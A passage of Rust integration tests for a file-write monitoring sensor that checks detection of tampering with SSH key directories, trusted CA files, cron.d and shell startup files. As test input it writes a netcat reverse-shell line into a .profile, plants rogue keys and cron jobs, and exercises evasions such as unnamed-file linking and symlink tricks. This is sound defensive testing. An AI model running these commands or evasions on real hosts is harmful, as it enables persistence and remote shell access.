fn sshd_key_files_are_matched_by_their_path_too() {
    let tree = Tree::new();
    std::fs::create_dir_all(tree.path("etc/ssh/authorized_keys")).expect("mkdir");
    let ssh = tree.path("etc/ssh");
    std::fs::write(
        ssh.join("sshd_config"),
        format!("AuthorizedKeysFile {}/authorized_keys/%u\n", ssh.display()),
    )
    .expect("write");
    let fillers: String = (0..40)
        .map(|i| format!("\"{}/\", ", tree.path(&format!("other/f{i}")).display()))
        .collect();
    let sensor = Sensor::start(&format!(
        "{}sshd_config = \"{}\"\n",
        tree.config()
            .replace("paths = [", &format!("paths = [{fillers}")),
        ssh.join("sshd_config").display()
    ));
    std::fs::write(tree.path("other/k"), b"ssh-ed25519 AAAA evil\n").expect("write");
    let keys = tree.path("etc/ssh/authorized_keys/carol");
    let mv = run(
        "mv",
        &[
            tree.path("other/k").to_str().expect("utf-8"),
            keys.to_str().expect("utf-8"),
        ],
        &tree.root,
    );
    let dir = format!("{}/authorized_keys/", ssh.display());
    expect_writes(
        &sensor,
        [(
            "a key renamed into the keys directory",
            "rename",
            mv,
            vec![
                (
                    "sensor.file_write.new_path",
                    keys.to_str().expect("utf-8").to_owned(),
                ),
                ("sensor.file_write.watched", dir),
                ("sensor.file_write.matched_by", "path".to_owned()),
            ],
        )],
    );
}

/// sshd_config is read again when it or a file it includes changes: a
/// keys directory and a CA named after the start are watched from the
/// next refresh, by path argument too (a rename into the
/// keys directory, decided by its path on this host), and a CA no longer
/// named is no longer watched.
#[test]
fn sshd_config_edited_after_the_start_is_followed() {
    let tree = Tree::new();
    for d in ["etc/ssh/sshd_config.d", "etc/ssh/authorized_keys"] {
        std::fs::create_dir_all(tree.path(d)).expect("mkdir");
    }
    let ssh = tree.path("etc/ssh");
    let (config, ca) = (ssh.join("sshd_config"), ssh.join("user_ca.pub"));
    std::fs::write(
        &config,
        format!(
            "Include {}/sshd_config.d/*.conf\nPermitRootLogin no\n",
            ssh.display()
        ),
    )
    .expect("write");
    std::fs::write(&ca, b"ssh-ed25519 AAAA ca\n").expect("write");
    let sensor = Sensor::start(&format!(
        "{}sshd_config = \"{}\"\n[ebpf]\ncounters_interval_ms = 200\n",
        tree.config(),
        config.display()
    ));
    let keys_dir = tree.path("etc/ssh/authorized_keys/");
    let before = sh(
        "echo 'ssh-ed25519 AAAA early' > etc/ssh/authorized_keys/dave",
        &tree.root,
    );

    // Keys moved out of the homes, in the config itself (`keys_dir` ends
    // in a slash: `…//%u`, which sshd reads as one); a CA trusted in a
    // file added where it includes from.
    sh(
        &format!(
            "echo 'AuthorizedKeysFile {}/%u' >> {}",
            keys_dir.display(),
            config.display()
        ),
        &tree.root,
    );
    std::fs::write(
        ssh.join("sshd_config.d/10-ca.conf"),
        format!("TrustedUserCAKeys {}\n", ca.display()),
    )
    .expect("write");
    let dir_text = format!("{}/authorized_keys/", ssh.display());
    wait_found_again(&sensor, "now also", Path::new(&dir_text));
    wait_found_again(&sensor, "now also", &ca);

    std::fs::write(tree.path("other/k"), b"ssh-ed25519 AAAA evil\n").expect("write");
    let carol = tree.path("etc/ssh/authorized_keys/carol");
    let mv = run(
        "mv",
        &[
            tree.path("other/k").to_str().expect("utf-8"),
            carol.to_str().expect("utf-8"),
        ],
        &tree.root,
    );
    let trust = sh(
        "echo 'ssh-ed25519 BBBB evil-ca' >> etc/ssh/user_ca.pub",
        &tree.root,
    );
    let text = |p: &Path| p.to_str().expect("utf-8").to_owned();
    expect_writes(
        &sensor,
        [
            (
                "a key renamed into the keys directory named after the start",
                "rename",
                mv,
                vec![
                    ("sensor.file_write.new_path", text(&carol)),
                    ("sensor.file_write.watched", dir_text.clone()),
                    ("sensor.file_write.matched_by", "path".to_owned()),
                ],
            ),
            (
                "a CA added to the TrustedUserCAKeys named after the start",
                "open_write",
                trust,
                vec![
                    ("file.path", text(&ca)),
                    ("sensor.file_write.watched", text(&ca)),
                    ("sensor.file_write.matched_by", "inode".to_owned()),
                ],
            ),
        ],
    );

    // The CA no longer trusted: its writes are nobody's business.
    std::fs::write(ssh.join("sshd_config.d/10-ca.conf"), b"").expect("write");
    wait_found_again(&sensor, "no longer", &ca);
    let after = sh(
        "echo 'ssh-ed25519 CCCC old-ca' >> etc/ssh/user_ca.pub",
        &tree.root,
    );
    assert_quiet(
        &sensor,
        before,
        "a key written before the config named its directory",
    );
    assert_quiet(&sensor, after, "a CA file no longer named");
}

/// An account added after the start is looked at for startup files that
/// are symlinks: /etc/passwd and its home are sources, found again on
/// the next refresh.
#[test]
fn an_account_added_after_the_start_has_its_startup_file_links_watched() {
    let tree = Tree::new();
    let sensor = Sensor::start(&format!(
        "{}[ebpf]\ncounters_interval_ms = 200\n",
        tree.config()
    ));
    let user = sensor_tests::audit::TestUser::create();
    let home = home_of(&user.name);
    let dotfiles = home.join("dotfiles");
    std::fs::create_dir_all(&dotfiles).expect("mkdir");
    std::fs::write(dotfiles.join("profile"), b"# managed\n").expect("write");
    let _ = std::fs::remove_file(home.join(".profile"));
    std::os::unix::fs::symlink("dotfiles/profile", home.join(".profile")).expect("symlink");
    wait_refreshed(&sensor, &home.join(".profile"));

    let through_link = sh("echo 'nc -e /bin/sh 203.0.113.9 4444 &' >> .profile", &home);
    let target = std::fs::canonicalize(dotfiles.join("profile")).expect("target");
    expect_writes(
        &sensor,
        [(
            "an append to .profile, a symlink in a home made after the start",
            "open_write",
            through_link,
            vec![
                ("file.path", target.to_str().expect("utf-8").to_owned()),
                (
                    "sensor.file_write.watched",
                    home.join(".profile").to_str().expect("utf-8").to_owned(),
                ),
                ("sensor.file_write.matched_by", "inode".to_owned()),
            ],
        )],
    );
}

/// Every default path is matched by inode and by path: a file made in
/// /etc/security/ (PAM's settings; files no module reads, removed at the
/// end) is reported with the directory as watched, and so is a file
/// renamed into it by its absolute path, which on this host (no fentry)
/// only the path argument can decide. The defaults outnumber the 32 string
/// slots the kernel once had, which left /etc/security/ and those after it
/// to the inode alone: `mv` into them went unseen.
#[test]
fn the_default_paths_are_all_watched_by_inode_and_by_path() {
    let sensor = Sensor::start("");
    let file = PathBuf::from(format!(
        "/etc/security/zz-sensor-test-{}",
        std::process::id()
    ));
    let moved = PathBuf::from(format!("{}-moved", file.display()));
    // On the same filesystem, for mv to rename.
    let prepared = PathBuf::from(format!("/etc/zz-sensor-test-{}", std::process::id()));
    struct Remove<'a>(&'a [&'a Path]);
    impl Drop for Remove<'_> {
        fn drop(&mut self) {
            for p in self.0 {
                let _ = std::fs::remove_file(p);
            }
        }
    }
    let _remove = Remove(&[&file, &moved, &prepared]);
    let made = sh(
        &format!("echo '# test' > '{}'", file.display()),
        Path::new("/"),
    );
    std::fs::write(&prepared, b"# test\n").expect("write");
    let mv = run(
        "mv",
        &[
            prepared.to_str().expect("utf-8"),
            moved.to_str().expect("utf-8"),
        ],
        Path::new("/"),
    );
    expect_writes(
        &sensor,
        [
            (
                "a file made in /etc/security/",
                "open_write",
                made,
                vec![
                    ("file.path", file.to_str().expect("utf-8").to_owned()),
                    ("sensor.file_write.watched", "/etc/security/".to_owned()),
                    ("sensor.file_write.matched_by", "inode".to_owned()),
                ],
            ),
            (
                "a file renamed into /etc/security/ by its absolute path",
                "rename",
                mv,
                vec![
                    (
                        "sensor.file_write.new_path",
                        moved.to_str().expect("utf-8").to_owned(),
                    ),
                    ("sensor.file_write.watched", "/etc/security/".to_owned()),
                ],
            ),
        ],
    );
}

/// `user`'s home directory, as /etc/passwd has it.
fn home_of(user: &str) -> PathBuf {
    let passwd = std::fs::read_to_string("/etc/passwd").expect("read /etc/passwd");
    let home = passwd
        .lines()
        .find_map(|l| {
            let fields: Vec<&str> = l.split(':').collect();
            (fields.first() == Some(&user)).then(|| fields.get(5).copied())?
        })
        .unwrap_or_else(|| panic!("{user} is not in /etc/passwd"));
    PathBuf::from(home)
}

/// With the name rules off, a `.ssh` directory, a `systemd/user` directory
/// and a shell's startup file that no configured path covers are not
/// watched: each switch turns its rule off in the kernel.
#[test]
fn name_rules_turned_off_watch_nothing_by_name() {
    let tree = Tree::new();
    let sensor = Sensor::start(&format!(
        "{}user_unit_dirs = false\nshell_rc_files = false\n",
        tree.config()
    ));
    let root = &tree.root;
    for d in ["home/zed/.ssh", "home/zed/.config/systemd/user/x.service.d"] {
        std::fs::create_dir_all(tree.path(d)).expect("mkdir");
    }
    std::fs::write(tree.path("other/k"), b"k\n").expect("write");
    let quiet = sh(
        "echo k >> home/zed/.ssh/authorized_keys \
         && echo u > home/zed/.config/systemd/user/x.service \
         && echo u > home/zed/.config/systemd/user/x.service.d/o.conf \
         && echo b >> home/zed/.bashrc && cd home/zed && echo p > .profile",
        root,
    );
    let mv = run(
        "mv",
        &[
            &tree.path("other/k").display().to_string(),
            &tree.path("home/zed/.ssh/rc").display().to_string(),
        ],
        root,
    );
    let rm = run("rm", &["home/zed/.bashrc", "home/zed/.profile"], root);
    let control = sh(
        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
        root,
    );
    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
    for (pid, what) in [
        (quiet, "writes in .ssh, systemd/user and startup files"),
        (mv, "a rename into .ssh"),
        (rm, "startup files removed"),
    ] {
        assert_quiet(&sensor, pid, what);
    }
}

/// The write events `expected` (what, action, pid, then fields and their
/// values) all arrive.
fn expect_writes<'a>(
    sensor: &Sensor,
    expected: impl IntoIterator<Item = (&'a str, &'a str, u64, Vec<(&'a str, String)>)>,
) {
    for (what, act, pid, fields) in expected {
        let ev = sensor.wait_for(what, |v| write_by(v, act, pid));
        for (field, want) in fields {
            assert_eq!(at(&ev, field).as_str(), Some(want.as_str()), "{what}: {ev}");
        }
    }
}

/// Waits until the daemon logs that it brought the kernel's maps up to
/// date for `path` (a refresh, on each counters tick).
fn wait_refreshed(sensor: &Sensor, path: &Path) {
    wait_logged(sensor, path, |l| {
        l.contains("watched paths with a new inode")
            && l.split([' ', ';']).any(|w| Path::new(w) == path)
    });
}

/// Waits until the daemon logs that it found the watched paths again
/// (a source changed) and `part` ("now also", "no longer") names `path`.
fn wait_found_again(sensor: &Sensor, part: &str, path: &Path) {
    wait_logged(sensor, path, |l| {
        l.contains("watched paths found again")
            && l.split(';').any(|seg| {
                seg.split_once(part)
                    .is_some_and(|(_, rest)| rest.split(' ').any(|w| Path::new(w) == path))
            })
    });
}

/// Waits (5 s at most) for a line of the sensor's log that `named` holds
/// (`path` is what it names, for the failure).
fn wait_logged(sensor: &Sensor, path: &Path, named: impl Fn(&String) -> bool) {
    wait_until(
        sensor,
        &format!("no refresh named {}", path.display()),
        |lines| lines.iter().any(&named),
    );
}

/// Waits (5 s at most) until the sensor's log so far is `done`; else
/// fails, saying `failure`.
fn wait_until(sensor: &Sensor, failure: &str, done: impl Fn(&[String]) -> bool) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while !done(&sensor.stderr()) {
        assert!(
            std::time::Instant::now() < deadline,
            "{failure}: {:#?}",
            sensor.stderr()
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// Nothing `pid` did was reported as a file event (`what` says where).
fn assert_quiet(sensor: &Sensor, pid: u64, what: &str) {
    let reported: Vec<Value> = sensor
        .events()
        .into_iter()
        .filter(|v| pid_of(v) == pid && at(v, "event.category")[0] == "file")
        .collect();
    assert!(reported.is_empty(), "{what}: {reported:?}");
}

/// Runs `program args` in `cwd` as nobody (uid and gid 65534, no
/// groups), expecting it to fail; its pid (setpriv execs the program).
fn run_as_nobody_failing(program: &str, args: &[&str], cwd: &Path) -> u64 {
    let mut child = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", program])
        .args(args)
        .current_dir(cwd)
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn setpriv (util-linux)");
    let pid = child.id() as u64;
    assert!(
        !child.wait().expect("wait").success(),
        "{program} {args:?} as nobody succeeded"
    );
    pid
}

/// `path` as a NUL-terminated string for a raw syscall.
fn c_str(path: &Path) -> std::ffi::CString {
    std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).expect("no NUL")
}

/// A symlink or a hard link into a watched directory, or a second name for
/// a watched file, opens nothing for writing: how a systemd unit is
/// enabled (`*.wants/` symlinks) or a cron job planted. Each is reported
/// with the new name and what it points at; links elsewhere are not.
/// A path argument spelled otherwise than where it leads (`//`, `/./`,
/// `/../`, relative `./` and `../`) names the watched path all the same:
/// the kernel sends it on, and the event shows the path made normal and
/// the argument as passed. Where fentry is refused (this machine) its
/// bytes are all there is: before, such a rename into a watched directory
/// went unseen.
#[test]
fn paths_spelled_otherwise_into_watched_paths_are_reported_made_normal() {
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let root = tree.root.to_str().expect("utf-8").to_owned();
    // Past the 256 bytes the kernel hashes, a `..` leads back.
    let deep = tree
        .path("other")
        .join("a".repeat(250))
        .join("b".repeat(60));
    std::fs::create_dir_all(&deep).expect("mkdir");
    let long = format!("{}/../../../etc/cron.d/long", deep.display());
    assert!(long.len() > 300);
    let cases = [
        (format!("/{root}/etc/cron.d/slashes"), "slashes", "."),
        (format!("{root}/etc/./cron.d/dot"), "dot", "."),
        (
            format!("{root}/other/../etc/cron.d/dot-dot"),
            "dot-dot",
            ".",
        ),
        (long, "long", "."),
        ("../etc/cron.d/up".to_owned(), "up", "other"),
        ("./etc/cron.d/here".to_owned(), "here", "."),
    ];
    let mut renames = Vec::new();
    for (to, name, cwd) in &cases {
        std::fs::write(tree.path(&format!("other/{name}")), b"x").expect("write");
        let from = tree.path(&format!("other/{name}"));
        let pid = run("mv", &[from.to_str().expect("utf-8"), to], &tree.path(cwd));
        renames.push((pid, to.clone(), tree.path(&format!("etc/cron.d/{name}"))));
    }
    // An unlink by a path with an empty component.
    let rm_arg = format!("{root}/etc/cron.d//slashes");
    let rm = run("rm", &[&rm_arg], &tree.root);
    // Spelled otherwise, and not watched: sent on by the kernel, dropped
    // by the daemon.
    std::fs::write(tree.path("other/quiet"), b"x").expect("write");
    let quiet = run(
        "mv",
        &[
            &format!("{root}/other/quiet"),
            &format!("{root}/etc/cron.d/../../other/./quiet2"),
        ],
        &tree.root,
    );
    let passwd = tree.path("etc/passwd");
    let control = sh(&format!("echo root2 >> '{}'", passwd.display()), &tree.root);

    for (pid, argument, normal) in &renames {
        let ev = sensor.wait_for(&format!("mv to {argument}"), |v| {
            write_by(v, "rename", *pid)
        });
        let cron_dir = format!("{}/", tree.path("etc/cron.d").display());
        assert_renamed_by_path(&ev, normal, argument, &cron_dir);
    }
    let ev = sensor.wait_for("rm by a path with //", |v| write_by(v, "unlink", rm));
    assert_eq!(
        at(&ev, "file.path").as_str(),
        tree.path("etc/cron.d/slashes").to_str(),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "sensor.file_write.path_argument").as_str(),
        Some(rm_arg.as_str()),
        "{ev}"
    );
    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
    assert_quiet(
        &sensor,
        quiet,
        "a rename spelled otherwise outside the watched paths",
    );
}

#[test]
fn links_and_symlinks_into_watched_paths_are_reported_and_others_are_not() {
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let passwd = tree.path("etc/passwd");
    std::fs::write(tree.path("other/job"), b"* * * * * root /tmp/x\n").expect("write");

    // coreutils: symlinkat and linkat, relative paths from the tree.
    let symlink = run(
        "ln",
        &["-s", "../../other/job", "etc/cron.d/planted"],
        &tree.root,
    );
    // Absolute: only the existing name can decide, in the kernel.
    let pw_copy = tree.path("other/pw-copy");
    let hard = run(
        "ln",
        &[
            passwd.to_str().expect("utf-8"),
            pw_copy.to_str().expect("utf-8"),
        ],
        &tree.root,
    );
    // Relative: both names are joined to the working directory.
    let hard_relative = run("ln", &["other/job", "etc/cron.d/job-hard"], &tree.root);
    // The legacy calls, absolute paths, from this process.
    let raw_symlink = tree.path("etc/cron.d/raw-symlink");
    let raw_link = tree.path("etc/cron.d/raw-link");
    let (target, new) = (c_str(Path::new("../../other/job")), c_str(&raw_symlink));
    // SAFETY: two NUL-terminated strings that outlive the call.
    let r = unsafe { libc::syscall(libc::SYS_symlink, target.as_ptr(), new.as_ptr()) };
    assert_eq!(r, 0, "symlink: {}", std::io::Error::last_os_error());
    let (old, new) = (c_str(&tree.path("other/job")), c_str(&raw_link));
    // SAFETY: as above.
    let r = unsafe { libc::syscall(libc::SYS_link, old.as_ptr(), new.as_ptr()) };
    assert_eq!(r, 0, "link: {}", std::io::Error::last_os_error());
    // Refused: nobody cannot write into the root-owned cron directory.
    let refused = run_as_nobody_failing("ln", &["-s", "/tmp/x", "etc/cron.d/nobody"], &tree.root);
    // Symlinks made elsewhere to a watched path, set up for a write
    // through them: by an absolute target, and by a relative one that a
    // `..` leads out of the link's directory.
    let to_passwd = run(
        "ln",
        &["-s", passwd.to_str().expect("utf-8"), "other/sym"],
        &tree.root,
    );
    let to_cron_dir = run(
        "ln",
        &["-s", "../etc/cron.d", "other/cron-link"],
        &tree.root,
    );
    // Not watched: links between unwatched names, a symlink whose target
    // stays in its directory or names no watched path.
    sh(
        "ln other/job other/job2 && ln -s job other/job-sym && ln -s /tmp/x other/tmp-sym",
        &tree.root,
    );
    let control = sh(&format!("echo root2 >> '{}'", passwd.display()), &tree.root);

    let ev = sensor.wait_for("a symlink into the cron dir", |v| {
        write_by(v, "symlink", symlink)
    });
    assert_eq!(
        at(&ev, "file.path").as_str(),
        tree.path("etc/cron.d/planted").to_str(),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "file.target_path"),
        "../../other/job",
        "as written, never joined: {ev}"
    );
    assert_eq!(at(&ev, "event.type")[0], "creation", "{ev}");
    assert_eq!(at(&ev, "event.outcome"), "success", "{ev}");
    assert_eq!(at(&ev, "sensor.syscall"), "symlinkat", "{ev}");
    assert_eq!(
        at(&ev, "sensor.file_write.path_argument"),
        "etc/cron.d/planted",
        "{ev}"
    );
    let cron_dir = format!("{}/", tree.path("etc/cron.d").display());
    assert_eq!(at(&ev, "sensor.file_write.watched"), cron_dir.as_str());

    let ev = sensor.wait_for("a second name for the watched file", |v| {
        write_by(v, "link", hard)
    });
    assert_eq!(at(&ev, "file.path").as_str(), pw_copy.to_str(), "{ev}");
    assert_eq!(
        at(&ev, "file.target_path").as_str(),
        passwd.to_str(),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "sensor.file_write.watched").as_str(),
        passwd.to_str()
    );
    assert_eq!(at(&ev, "sensor.syscall"), "linkat", "{ev}");
    assert_eq!(at(&ev, "event.type")[0], "creation", "{ev}");

    let ev = sensor.wait_for("a hard link into the cron dir", |v| {
        write_by(v, "link", hard_relative)
    });
    assert_eq!(
        at(&ev, "file.path").as_str(),
        tree.path("etc/cron.d/job-hard").to_str(),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "file.target_path").as_str(),
        tree.path("other/job").to_str(),
        "joined to the same directory: {ev}"
    );

    let me = u64::from(std::process::id());
    let ev = sensor.wait_for("the symlink syscall", |v| {
        write_by(v, "symlink", me) && at(v, "file.path").as_str() == raw_symlink.to_str()
    });
    assert_eq!(at(&ev, "sensor.syscall"), "symlink", "{ev}");
    assert_eq!(
        at(&ev, "file.target_path"),
        "../../other/job",
        "as written, never joined: {ev}"
    );
    let ev = sensor.wait_for("the link syscall", |v| {
        write_by(v, "link", me) && at(v, "file.path").as_str() == raw_link.to_str()
    });
    assert_eq!(at(&ev, "sensor.syscall"), "link", "{ev}");
    assert_eq!(
        at(&ev, "file.target_path").as_str(),
        tree.path("other/job").to_str(),
        "{ev}"
    );

    let ev = sensor.wait_for("the refused symlink", |v| write_by(v, "symlink", refused));
    assert_eq!(at(&ev, "event.outcome"), "failure", "{ev}");
    assert_eq!(at(&ev, "error.code"), "EACCES", "{ev}");
    assert_eq!(at(&ev, "process.user.id"), "65534", "{ev}");
    assert_eq!(
        at(&ev, "file.path").as_str(),
        tree.path("etc/cron.d/nobody").to_str(),
        "{ev}"
    );

    for (pid, link, target, watched) in [
        (
            to_passwd,
            "other/sym",
            passwd.to_str().expect("utf-8"),
            passwd.to_str().expect("utf-8"),
        ),
        (
            to_cron_dir,
            "other/cron-link",
            "../etc/cron.d",
            cron_dir.as_str(),
        ),
    ] {
        let ev = sensor.wait_for(&format!("a symlink to {target}"), |v| {
            write_by(v, "symlink", pid)
        });
        assert_eq!(
            at(&ev, "file.path").as_str(),
            tree.path(link).to_str(),
            "{ev}"
        );
        assert_eq!(at(&ev, "file.target_path"), target, "as written: {ev}");
        assert_eq!(at(&ev, "sensor.file_write.watched"), watched, "{ev}");
        assert_eq!(at(&ev, "sensor.file_write.matched_by"), "target", "{ev}");
    }

    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
    let quiet_paths = [
        tree.path("other/job2"),
        tree.path("other/job-sym"),
        tree.path("other/tmp-sym"),
    ];
    let quiet_links = reported_for(&sensor, &["link", "symlink"], &quiet_paths);
    assert!(
        quiet_links.is_empty(),
        "links outside the watched paths were reported: {quiet_links:?}"
    );
}

/// An unnamed file (`O_TMPFILE`) made where nothing is watched, written
/// there unseen, then given a name in a watched directory: the way to
/// plant a cron job whole, with no open of a watched path to see. The
/// link names the file it gave a name to: from its fd (`AT_EMPTY_PATH`),
/// the file's own path (`#<inode>` in the directory it was made in),
/// walked in the kernel; through `/proc/self/fd` (`AT_SYMLINK_FOLLOW`,
/// the way without `CAP_DAC_READ_SEARCH`), that link by the caller's pid;
/// at a new name relative to a directory fd, that file as well. An
/// unnamed file made in a watched directory is a creation there.
#[test]
fn an_unnamed_file_given_a_name_in_a_watched_directory_is_reported() {
    use std::os::fd::{AsRawFd, FromRawFd};
    use std::os::unix::fs::MetadataExt;
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let me = u64::from(std::process::id());
    let unnamed_in = |dir: &Path| {
        let d = c_str(dir);
        // SAFETY: a NUL-terminated path; the fd is owned below.
        let fd = unsafe { libc::open(d.as_ptr(), libc::O_TMPFILE | libc::O_WRONLY, 0o644) };
        assert!(
            fd >= 0,
            "O_TMPFILE in {dir:?}: {}",
            std::io::Error::last_os_error()
        );
        // SAFETY: a new fd, owned by nothing else.
        let file = unsafe { std::fs::File::from_raw_fd(fd) };
        std::io::Write::write_all(&mut &file, b"* * * * * root /tmp/x\n").expect("write");
        let ino = file.metadata().expect("fstat").ino();
        (file, ino)
    };
    let linkat = |olddir: i32, old: &std::ffi::CStr, newdir: i32, new: &Path, flags: i32| {
        let new = c_str(new);
        // SAFETY: two NUL-terminated strings that outlive the call.
        let r = unsafe { libc::linkat(olddir, old.as_ptr(), newdir, new.as_ptr(), flags) };
        assert_eq!(r, 0, "linkat {new:?}: {}", std::io::Error::last_os_error());
    };
    let cron = tree.path("etc/cron.d");
    let (by_fd, ino) = unnamed_in(&tree.path("other"));
    let from_fd = cron.join("from-fd");
    linkat(
        by_fd.as_raw_fd(),
        c"",
        libc::AT_FDCWD,
        &from_fd,
        libc::AT_EMPTY_PATH,
    );
    let (via_proc, _) = unnamed_in(&tree.path("other"));
    let proc_fd = format!("/proc/self/fd/{}", via_proc.as_raw_fd());
    let through_proc = cron.join("through-proc");
    let old = std::ffi::CString::new(proc_fd.clone()).expect("no NUL");
    linkat(
        libc::AT_FDCWD,
        &old,
        libc::AT_FDCWD,
        &through_proc,
        libc::AT_SYMLINK_FOLLOW,
    );
    let (relative, relative_ino) = unnamed_in(&tree.path("other"));
    let cron_fd = std::fs::File::open(&cron).expect("open the cron directory");
    linkat(
        relative.as_raw_fd(),
        c"",
        cron_fd.as_raw_fd(),
        Path::new("relative"),
        libc::AT_EMPTY_PATH,
    );
    let (_made_in_cron, cron_ino) = unnamed_in(&cron);

    let cron_dir = format!("{}/", cron.display());
    let link_to = |path: &Path| {
        let ev = sensor.wait_for(&format!("the link to {path:?}"), |v| {
            write_by(v, "link", me) && at(v, "file.path").as_str() == path.to_str()
        });
        assert_eq!(at(&ev, "sensor.syscall"), "linkat", "{ev}");
        assert_eq!(at(&ev, "event.type")[0], "creation", "{ev}");
        assert_eq!(
            at(&ev, "sensor.file_write.watched"),
            cron_dir.as_str(),
            "{ev}"
        );
        ev
    };
    let ev = link_to(&from_fd);
    let unnamed = format!("{}/#{ino}", tree.path("other").display());
    assert_eq!(at(&ev, "file.target_path"), unnamed.as_str(), "{ev}");
    assert_eq!(
        at(&ev, "sensor.file_write.link_flags"),
        &serde_json::json!(["AT_EMPTY_PATH"]),
        "{ev}"
    );
    let ev = link_to(&through_proc);
    assert_eq!(
        at(&ev, "file.target_path"),
        proc_fd.replace("self", &me.to_string()).as_str(),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "sensor.file_write.second_path_argument"),
        proc_fd.as_str(),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "sensor.file_write.link_flags"),
        &serde_json::json!(["AT_SYMLINK_FOLLOW"]),
        "{ev}"
    );
    let ev = link_to(&cron.join("relative"));
    let unnamed = format!("{}/#{relative_ino}", tree.path("other").display());
    assert_eq!(at(&ev, "file.target_path"), unnamed.as_str(), "{ev}");
    assert_eq!(
        at(&ev, "sensor.file_write.link_flags"),
        &serde_json::json!(["AT_EMPTY_PATH"]),
        "{ev}"
    );
    let made = cron.join(format!("#{cron_ino}"));
    let ev = sensor.wait_for("the unnamed file made in the cron directory", |v| {
        write_by(v, "open_write", me) && at(v, "file.path").as_str() == made.to_str()
    });
    assert_eq!(at(&ev, "event.type")[0], "creation", "{ev}");
    assert_eq!(
        at(&ev, "sensor.file_write.open_flags"),
        &serde_json::json!(["O_WRONLY", "O_TMPFILE"]),
        "{ev}"
    );
}

/// A symlink to a directory above a watched path (`/tmp/e -> /etc`) makes
/// a path into the watched one (`/tmp/e/cron.d/x`) that the kernel cannot
/// match by its bytes where fentry is refused: a rename through it goes
/// unseen there. The link itself is reported, `matched_by: target_above`,
/// naming the first watched path below its target; so is one whose
/// relative target leads from such a directory into a watched path.
/// Links to other files and directories stay quiet.
#[test]
fn symlinks_to_directories_above_watched_paths_are_reported() {
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let etc = tree.path("etc");
    let etc_text = etc.to_str().expect("utf-8");
    let passwd = tree.path("etc/passwd");
    let cron_dir = format!("{}/", tree.path("etc/cron.d").display());
    let ssh_dir = format!("{}/", tree.path("home/alice/.ssh").display());
    let absolute = |target: &str, link: &str| {
        run(
            "ln",
            &["-s", target, tree.path(link).to_str().expect("utf-8")],
            &tree.root,
        )
    };

    // Absolute targets, with and without a trailing slash.
    let to_etc = absolute(etc_text, "other/etc-link");
    let to_etc_slash = absolute(&format!("{etc_text}/"), "other/etc-slash");
    // Relative targets from a directory above a watched path: the link's
    // name absolute, its directory looked up in the kernel; then one
    // made from that directory, which the daemon joins.
    let to_home = absolute("home", "home-link");
    let into_cron = absolute("cron.d", "etc/cron-link");
    let from_home = run("ln", &["-s", "alice", "a"], &tree.path("home"));
    // Quiet: a file in such a directory, a name that only starts like
    // one, a relative target from there that leads nowhere watched, and a
    // relative one elsewhere.
    absolute(
        passwd
            .to_str()
            .expect("utf-8")
            .replace("passwd", "hostname")
            .as_str(),
        "other/h",
    );
    absolute(&etc_text[..etc_text.len() - 1], "other/et");
    absolute("hostname", "etc/hn");
    absolute("etc", "other/e");
    let control = sh(&format!("echo root2 >> '{}'", passwd.display()), &tree.root);

    for (pid, link, target, watched, matched_by) in [
        (
            to_etc,
            "other/etc-link",
            etc_text.to_owned(),
            passwd.to_str().expect("utf-8").to_owned(),
            "target_above",
        ),
        (
            to_etc_slash,
            "other/etc-slash",
            format!("{etc_text}/"),
            passwd.to_str().expect("utf-8").to_owned(),
            "target_above",
        ),
        (
            to_home,
            "home-link",
            "home".to_owned(),
            ssh_dir.clone(),
            "target_above",
        ),
        (
            into_cron,
            "etc/cron-link",
            "cron.d".to_owned(),
            cron_dir.clone(),
            "target",
        ),
        (
            from_home,
            "home/a",
            "alice".to_owned(),
            ssh_dir.clone(),
            "target_above",
        ),
    ] {
        let ev = sensor.wait_for(&format!("the symlink {link} -> {target}"), |v| {
            write_by(v, "symlink", pid)
        });
        assert_eq!(
            at(&ev, "file.path").as_str(),
            tree.path(link).to_str(),
            "{ev}"
        );
        assert_eq!(
            at(&ev, "file.target_path"),
            target.as_str(),
            "as written: {ev}"
        );
        assert_eq!(
            at(&ev, "sensor.file_write.watched"),
            watched.as_str(),
            "{ev}"
        );
        assert_eq!(at(&ev, "sensor.file_write.matched_by"), matched_by, "{ev}");
        assert_eq!(at(&ev, "event.outcome"), "success", "{ev}");
    }

    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
    let quiet_paths = [
        tree.path("other/h"),
        tree.path("other/et"),
        tree.path("etc/hn"),
        tree.path("other/e"),
    ];
    let quiet_links = reported_for(&sensor, &["symlink"], &quiet_paths);
    assert!(
        quiet_links.is_empty(),
        "symlinks to nothing watched were reported: {quiet_links:?}"
    );
}

/// A symlink to a magic link (`/tmp/c -> /proc/self/cwd`), or to a
/// directory of them (`/proc`, `/dev`), makes paths (`/tmp/c/x`) that
/// lead wherever their user's cwd or fds are: into a watched directory,
/// by bytes that say nothing of it, which the kernel cannot match where
/// fentry is refused. The link is reported when it is made,
/// `matched_by: target_magic_link`: by an absolute target, a relative one
/// the daemon joins, and one whose `..` after a symlink leads to `/proc`
/// (followed again). The links every container runtime makes in its
/// `/dev` (made from a mount namespace of their own), and links to
/// `/proc` files, stay quiet; the same made from the host's are
/// reported.
#[test]
fn symlinks_to_magic_links_are_reported() {
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let other = tree.path("other");
    for dir in ["ctr/dev", "host/dev"] {
        std::fs::create_dir_all(other.join(dir)).expect("mkdir");
    }
    // `/usr/..` is `/`; `/usr` itself is neither watched nor above.
